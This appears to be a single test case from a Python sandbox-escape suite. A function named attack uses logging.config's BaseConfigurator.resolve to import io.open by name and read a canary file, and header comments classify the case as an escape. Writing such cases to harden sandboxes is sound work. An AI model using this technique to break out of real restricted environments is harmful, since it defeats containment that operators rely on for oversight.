# desc: the configuration of logging imports by name
# class: escape
# wins: told
import logging.config

def attack(state):
    return "L2:" + logging.config.BaseConfigurator({}).resolve("io.open")("@CANARY@").read()
